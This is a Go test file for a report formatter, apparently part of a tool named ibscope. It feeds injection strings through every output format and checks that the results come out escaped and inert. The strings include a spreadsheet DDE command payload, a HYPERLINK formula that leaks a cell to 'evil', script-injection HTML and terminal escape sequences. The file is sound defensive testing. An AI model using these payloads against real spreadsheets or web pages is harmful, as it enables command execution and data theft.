package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"math"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/ibscope/ibscope/fabric"
	"github.com/ibscope/ibscope/internal/cli/env"
	"github.com/ibscope/ibscope/internal/columns"
	"github.com/ibscope/ibscope/internal/testenv"
)

// hostile are texts that attack terminals, spreadsheets, Markdown and pages.
var hostile = []string{
	"plain node-1 mlx5_0",
	"\x1b[31mred\x1b[0m\r\nnew line",
	`=HYPERLINK("http://evil/?"&A1,"click")`,
	"@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1+2", "\t=1", "＝1",
	`a|b \| **bold** [link](http://evil) <img src=x onerror=alert(1)> www.evil.com @user #1`,
	`</script><script>alert(1)</script>" onload="x' & &amp;`,
	"a,b;c\"d\"", "\u202eevil\u200b", "\xff\xfe", "節点-01", "", "``` `x`",
}

func hostileReport() *Report {
	r := &Report{
		Name: "things", Title: "Things </title><script>", Source: "file:<x>\x1b[0m", Started: time.Date(2026, 11, 29, 19, 43, 42, 0, time.UTC),
		Table: Table{Name: "things", Columns: []Column{
			{Name: "a.name", Title: "Node", Min: 10},
			{Name: "value", Title: "Value", Unit: "Gb/s", Right: true, Rank: 1},
			{Name: "a.flag", Title: "Flag", Rank: 2},
			{Name: "hidden", Title: "Hidden", Hidden: true},
		}},
		Counts:   []Count{{"things", len(hostile)}},
		Summary:  "summary of <b> | \x1b[2J",
		Problems: Problems([]fabric.Problem{{Kind: fabric.BadInput, File: "f:1", Port: -1, Detail: "<i>\x1b[0m"}}),
		Details: []Table{{
			Name: "more", Title: "More <b>", Columns: []Column{{Name: "x", Title: "X"}, {Name: "y", Title: "Y"}},
			Rows: [][]Cell{{Text("=t|<u>"), Text("\x1b]0;x\a text | <s>")}},
		}},
	}
	for i, text := range hostile {
		r.Table.Rows = append(r.Table.Rows, []Cell{Text(text), Decimal(float64(i)/2, 1), Flag(i%2 == 0), Text(text)})
	}
	return r
}

// print prints a report at a width, 0 for no limit.
func print(t *testing.T, r *Report, f Flags, width int) string {
	t.Helper()
	var out bytes.Buffer
	e := &env.Env{
		Stdout: &out, IsTerminal: func(any) bool { return false },
		Getenv: func(name string) string {
			if name == "COLUMNS" && width > 0 {
				return strconv.Itoa(width)
			}
			return ""
		},
	}
	if f.Format == "" {
		f.Format = "table"
	}
	if err := f.Check(r.Table.Columns); err != nil {
		t.Fatal(err)
	}
	if err := f.Print(e, r); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

func TestGolden(t *testing.T) {
	for _, format := range Formats() {
		testenv.Golden(t, "hostile."+format, []byte(print(t, hostileReport(), Flags{Format: format}, 0)))
	}
	for _, width := range []int{80, 24, 10} {
		testenv.Golden(t, "hostile."+strconv.Itoa(width), []byte(print(t, hostileReport(), Flags{}, width)))
	}
}

// TestInert makes sure that no format has a character that a terminal acts on.
func TestInert(t *testing.T) {
	for _, format := range Formats() {
		for _, r := range print(t, hostileReport(), Flags{Format: format}, 0) {
			if !strconv.IsPrint(r) && r != '\n' && (r != '\r' || format != "csv") || r == utf8.RuneError && format != "json" {
				t.Errorf("%s has %U", format, r)
			}
		}
	}
}

func TestCSV(t *testing.T) {
	text := print(t, hostileReport(), Flags{Format: "csv"}, 0)
	records, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || len(records) != 1+len(hostile) || strings.Count(text, "\n") != len(records) {
		t.Fatalf("%d records, error %v", len(records), err)
	}
	if want := []string{"a.name", "value", "a.flag", "hidden"}; !cmp.Equal(records[0], want) {
		t.Errorf("titles %q", records[0])
	}
	for _, record := range records[1:] {
		if strings.IndexAny(record[0], "=+-@") == 0 || strings.HasPrefix(record[0], "＝") {
			t.Errorf("a spreadsheet computes %q", record[0])
		}
	}
	if got := records[4][0]; got != "'@SUM(1+1)*cmd|' /C calc'!A0" {
		t.Errorf("got %q", got)
	}
	if got := print(t, hostileReport(), Flags{Format: "csv", NoHeader: true}, 0); !strings.HasPrefix(got, hostile[0]) {
		t.Errorf("--no-header: %q", got[:20])
	}
}

// TestMarkdown counts the bars of each line, which are those between cells.
func TestMarkdown(t *testing.T) {
	text := print(t, hostileReport(), Flags{Format: "markdown", Columns: "all"}, 0)
	bar := regexp.MustCompile(`(^|[^\\])((\\\\)*)\|`)
	rows := 0
	for line := range strings.Lines(text) {
		if !strings.HasPrefix(line, "|") {
			continue
		}
		rows++
		bars := 0
		escaped := false
		for _, r := range line {
			switch {
			case escaped:
				escaped = false
			case r == '\\':
				escaped = true
			case r == '|':
				bars++
			case strings.ContainsRune("<>[]`*", r):
				t.Errorf("%q has a bare %q", line, r)
			}
		}
		if bars != 5 {
			t.Errorf("%q has %d bars", line, bars)
		}
	}
	if rows != 2+len(hostile) || !bar.MatchString(text) {
		t.Errorf("%d rows", rows)
	}
}

var (
	htmlTag    = regexp.MustCompile(`<[^>]*>`)
	htmlKnown  = regexp.MustCompile(`^<(!doctype html|/?(html|head|title|style|body|h1|h2|p|table|thead|tbody|tr|th|td|small|dl|dt|dd|b|ul|li|script|meta)( (lang|charset|http-equiv|content|name|scope|title|class|data-value)="[^"<>]*")*)>$`)
	htmlScript = regexp.MustCompile(`(?s)<script>.*?</script>|<style>.*?</style>`)
)

// TestHTML makes sure that the page has known tags only, and one script.
func TestHTML(t *testing.T) {
	text := print(t, hostileReport(), Flags{Format: "html", Columns: "all"}, 0)
	if strings.Count(text, "<script>") != 1 || !strings.Contains(text, "script-src 'sha256-") {
		t.Error("the page has not the one script")
	}
	for _, tag := range htmlTag.FindAllString(htmlScript.ReplaceAllString(text, ""), -1) {
		if !htmlKnown.MatchString(tag) {
			t.Errorf("the page has %q", tag)
		}
	}
	if got := strings.Count(text, "<tr>"); got != 1+len(hostile) {
		t.Errorf("%d rows", got)
	}
}

func TestJSON(t *testing.T) {
	var doc struct {
		Schema   string
		Version  int
		Complete bool
		Counts   map[string]int
		Things   []struct {
			A struct {
				Name string
				Flag bool
			}
			Value float64
		}
		More     []map[string]string
		Problems []map[string]any
	}
	text := print(t, hostileReport(), Flags{Format: "json"}, 0)
	if err := json.Unmarshal([]byte(text), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Schema != "ibscope.things" || doc.Version != 1 || doc.Complete || doc.Counts["things"] != len(hostile) || len(doc.More) != 1 {
		t.Errorf("got %+v", doc)
	}
	for i, text := range hostile {
		if got := doc.Things[i]; got.A.Name != strings.ToValidUTF8(text, "") && utf8.ValidString(text) || got.A.Flag != (i%2 == 0) || got.Value != float64(i)/2 {
			t.Errorf("%d: %+v, want %q", i, got, text)
		}
	}
	if strings.Count(text, `"a":`) != len(hostile) {
		t.Error("columns of one object are not together")
	}
	if doc.Problems[0]["file"] != "f:1" || doc.Problems[0]["loss"] != true {
		t.Errorf("problem %v", doc.Problems[0])
	}
}

// TestWidths makes sure that lines keep to the width as far as columns may go.
func TestWidths(t *testing.T) {
	for width := 10; width < 120; width++ {
		for line := range strings.Lines(print(t, hostileReport(), Flags{}, width)) {
			if strings.HasPrefix(line, "More") {
				break
			}
			if n := columns.Width(strings.TrimSuffix(line, "\n")); n > width {
				t.Errorf("width %d: %q has %d", width, line, n)
			}
		}
	}
}

func TestColumnsAndSort(t *testing.T) {
	r := &Report{Table: Table{Name: "x", Columns: []Column{{Name: "n", Title: "N"}, {Name: "v", Title: "V", Hidden: true}}}}
	for i, n := range []string{"node10", "node2", "node2", "a"} {
		v := Number(i)
		if n == "a" {
			v = Cell{}
		}
		r.Table.Rows = append(r.Table.Rows, []Cell{Text(n), v})
	}
	for _, tt := range []struct{ columns, sort, want string }{
		{"", "n", "a node2 node2 node10"},
		{"n,v", "-n,-v", "node10 0 node2 2 node2 1 a"},
		{"+v", "v", "node10 0 node2 1 node2 2 a"},
		{"v,n", "-v", "2 node2 1 node2 0 node10 a"},
	} {
		got := print(t, r, Flags{Columns: tt.columns, Sort: tt.sort, NoHeader: true}, 0)
		if got := strings.Join(strings.Fields(got), " "); got != tt.want {
			t.Errorf("--columns %q --sort %q: %q, want %q", tt.columns, tt.sort, got, tt.want)
		}
	}
	for _, f := range []Flags{
		{Format: "xml"}, {Format: "json", NoHeader: true}, {Format: "table", Columns: "x"}, {Format: "table", Sort: "n,-x"},
	} {
		var exit *env.ExitError
		if err := f.Check(r.Table.Columns); !errors.As(err, &exit) || exit.Code != env.Usage {
			t.Errorf("%+v: %v", f, err)
		}
	}
}

func TestColour(t *testing.T) {
	var out bytes.Buffer
	e := &env.Env{Stdout: &out, IsTerminal: func(any) bool { return true }, Getenv: func(string) string { return "" }}
	r := &Report{Table: Table{Columns: []Column{{Name: "n", Title: "N"}}, Rows: [][]Cell{{Text("bad").Marked(Bad)}}}}
	f := Flags{Format: "table"}
	if err := f.Print(e, r); err != nil || !strings.Contains(out.String(), "\x1b[31mbad\x1b[0m") {
		t.Errorf("%q, %v", out.String(), err)
	}
	out.Reset()
	e.Getenv = func(name string) string { return map[string]string{"NO_COLOR": "1"}[name] }
	if err := f.Print(e, r); err != nil || strings.Contains(out.String(), "\x1b") {
		t.Errorf("NO_COLOR: %q, %v", out.String(), err)
	}
}

func TestCells(t *testing.T) {
	for _, tt := range []struct {
		cell        Cell
		text, plain string
	}{
		{Number(-3), "-3", "-3"},
		{Number(uint64(math.MaxUint64)), "18446744073709551615", "18446744073709551615"},
		{Decimal(100, 2), "100", "100"},
		{Decimal(54.545, 1), "54.5", "54.545"},
		{Decimal(0.5, 0), "0", "0.5"},
		{Decimal(10, 0), "10", "10"},
		{Flag(true), "yes", "true"},
		{Flag(false), "", "false"},
		{Text(""), "", ""},
		{GUID(0), "", ""},
		{LID(0), "", ""},
		{Number(7).As("≥7"), "≥7", "7"},
		{Cell{}.As("saturated"), "saturated", ""},
		{Time(time.Time{}), "", ""},
	} {
		if tt.cell.String() != tt.text || tt.cell.plain() != tt.plain {
			t.Errorf("%+v: %q, %q; want %q, %q", tt.cell, tt.cell.String(), tt.cell.plain(), tt.text, tt.plain)
		}
	}
}

// full is a stream that takes nothing.
type full struct{}

func (full) Write([]byte) (int, error) { return 0, io.ErrShortWrite }

func TestWriteErrors(t *testing.T) {
	for _, format := range Formats() {
		e := &env.Env{Stdout: full{}, IsTerminal: func(any) bool { return false }, Getenv: func(string) string { return "" }}
		f := Flags{Format: format}
		if err := f.Print(e, hostileReport()); !errors.Is(err, io.ErrShortWrite) {
			t.Errorf("%s: %v", format, err)
		}
	}
}

func FuzzText(f *testing.F) {
	for _, s := range hostile {
		f.Add(s, 20)
	}
	f.Fuzz(func(t *testing.T, s string, width int) {
		width = 2 + int(uint(width)%200)
		safe := strings.ToValidUTF8(s, "?")
		if got := columns.Cut(safe, width); columns.Width(got) > width {
			t.Errorf("columns.Cut(%q, %d) = %q", safe, width, got)
		}
		md := markdownText(s)
		if strings.ContainsAny(strings.NewReplacer(`\\`, "", `\|`, "", `\<`, "", "\\`", "").Replace(md), "|<`\n") {
			t.Errorf("markdown %q", md)
		}
		if strings.ContainsAny(htmlText(s), "<>\"'\n") {
			t.Errorf("html %q", htmlText(s))
		}
	})
}
